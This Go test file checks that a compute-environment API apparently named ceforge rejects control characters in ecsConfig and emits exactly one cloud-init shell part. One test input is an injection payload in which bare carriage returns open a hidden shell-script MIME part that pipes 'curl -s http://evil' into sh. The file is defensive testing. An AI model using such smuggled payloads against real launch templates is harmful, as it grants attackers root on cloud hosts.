package batchce_test

import (
	"context"
	"encoding/base64"
	"fmt"
	"testing"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/ec2"
	"github.com/stretchr/testify/require"

	"github.com/ceforge/ceforge/internal/cloudinit"
	"github.com/ceforge/ceforge/internal/computeenv"
	"github.com/ceforge/ceforge/internal/forge"
	"github.com/ceforge/ceforge/internal/forge/hostinit/hostinittest"
	"github.com/ceforge/ceforge/internal/store"
)

// TestEcsConfigWithControlCharactersIsRefused: ecsConfig text goes into the
// launch template's MIME user data of every Batch host. A bare carriage
// return ends a line for cloud-init's MIME parser, so it could open a
// second shell-script part (root on every host for any API caller). The
// API refuses it, and every other control character, and writes nothing.
func TestEcsConfigWithControlCharactersIsRefused(t *testing.T) {
	h := newHarness(t)
	i := 0
	for name, cfg := range map[string]string{
		"bare CR opens a MIME part": "ECS_A=1\r--==CEFORGE==\rContent-Type: text/x-shellscript\r\r#!/bin/bash\rcurl -s http://evil | sh\r",
		"CRLF":                      "ECS_A=1\r\nECS_B=2",
		"escape sequence":           "ECS_A=1\x1b[2J",
		"vertical tab":              "ECS_A=1\vECS_B=2",
		"C1 next line":              "ECS_A=1\u0085ECS_B=2",
	} {
		i++
		t.Run(name, func(t *testing.T) {
			res := h.Do(t, "POST", "/compute-envs", forgeBody(fmt.Sprintf("ctl%d", i), func(_ *computeenv.BatchOptions, f *computeenv.ForgeOptions) { f.EcsConfig = cfg }))
			require.Equal(t, 400, res.Status, string(res.Body))
			code, field, msg := res.Error(t)
			require.Equal(t, "invalid_field", code)
			require.Equal(t, "batch.forge.ecsConfig", field)
			require.Contains(t, msg, "control characters")
		})
	}
	ces, err := store.All[computeenv.ComputeEnv](context.Background(), h.Store, store.Query{Kind: store.KindCE})
	require.NoError(t, err)
	require.Empty(t, ces, "nothing written")
}

// TestForgedLaunchTemplateUserDataIsOneShellPart forges a CE with ecsConfig
// (tabs and comments allowed) and reads the launch template back from the
// emulator: cloud-init would find exactly one part, a shell script holding
// the settings.
func TestForgedLaunchTemplateUserDataIsOneShellPart(t *testing.T) {
	h := newHarness(t)
	ce := createCE(t, h, forgeBody("userdata", func(_ *computeenv.BatchOptions, f *computeenv.ForgeOptions) {
		f.EcsConfig = "# agent settings\nECS_ENABLE_GPU_SUPPORT=true\nECS_RESERVED_MEMORY=\t256\n"
	}))
	require.Equal(t, computeenv.StatusAvailable, ce.Status, ce.StatusReason)
	lt, err := ec2.NewFromConfig(h.AWS.Config(region)).DescribeLaunchTemplateVersions(context.Background(),
		&ec2.DescribeLaunchTemplateVersionsInput{LaunchTemplateName: aws.String(forge.NamesFor("ceforge-", ce.ID).LaunchTemplate)})
	require.NoError(t, err)
	raw, err := base64.StdEncoding.DecodeString(aws.ToString(lt.LaunchTemplateVersions[0].LaunchTemplateData.UserData))
	require.NoError(t, err)
	parts, err := cloudinit.Parse(raw)
	require.NoError(t, err)
	require.Len(t, parts, 1, string(raw))
	require.Equal(t, cloudinit.ShellScript, parts[0].Type)
	// Run on a stubbed host, it appends exactly those settings to ecs.config.
	s := hostinittest.Sandbox(t)
	res := hostinittest.Run(t, s, parts[0].Body)
	require.Equal(t, 0, res.ExitCode, res.Output)
	require.Equal(t, "ECS_IMAGE_PULL_BEHAVIOR=once\nECS_ENABLE_SPOT_INSTANCE_DRAINING=true\n# agent settings\nECS_ENABLE_GPU_SUPPORT=true\nECS_RESERVED_MEMORY=\t256\n",
		s.ReadFile("etc/ecs/ecs.config"))
}
